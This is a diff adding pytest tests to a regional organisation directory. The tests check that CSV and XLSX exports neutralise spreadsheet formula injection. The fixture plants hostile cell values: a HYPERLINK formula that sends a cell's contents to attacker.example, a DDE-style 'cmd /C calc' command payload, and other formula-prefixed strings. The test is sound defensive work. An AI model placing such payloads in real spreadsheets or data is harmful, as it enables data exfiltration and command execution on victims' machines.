@@ -103,3 +103,49 @@ def test_export_contains_only_this_region(coordinator_client, other_region, porc
     text = body(coordinator_client.get(url("csv"))).decode("utf-8-sig")
     assert "Glashütte" not in text
     assert "Porcelánka" in text
+
+
+@pytest.fixture
+def planted(region):
+    """An organisation whose texts a spreadsheet would run as formulas, as an editor could name it."""
+    return OrganisationFactory(
+        region=region,
+        name='=HYPERLINK("https://attacker.example/?"&A1,"Click")',
+        short_name="@SUM(1+1)*cmd|' /C calc'!A0",
+        town="+1+2",
+        address="-2+3",
+        phone="+420 353 000 000",
+        tags=["=1+1", "shop"],
+    )
+
+
+PLANTED = {
+    "name": '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
+    "short_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "town": "+1+2",
+    "address": "-2+3",
+    "phone": "+420 353 000 000",
+    "tags": "=1+1; shop",
+}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_runs_no_formula_and_reads_back_unchanged_by_the_import(coordinator_client, planted):
+    from inducult.network.services.importing.reading import read_table
+
+    raw = body(coordinator_client.get(url("csv")))
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    record = dict(zip(rows[0], rows[1], strict=True))
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert {name: record[name] for name in PLANTED} == {name: "'" + value for name, value in PLANTED.items()}
+    table = read_table(raw, "organisations.csv")
+    assert {name: table.rows[0][1][table.header.index(name)] for name in PLANTED} == PLANTED
+
+
+def test_xlsx_export_has_no_formula_cell_and_keeps_the_text(coordinator_client, planted):
+    workbook = openpyxl.load_workbook(io.BytesIO(body(coordinator_client.get(url("xlsx")))))
+    cells = [cell for row in workbook.active.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    header = [cell.value for cell in cells[: len(EXPORT_COLUMNS)]]
+    values = [cell.value for cell in cells[len(EXPORT_COLUMNS) :]]
+    assert {name: values[header.index(name)] for name in PLANTED} == PLANTED
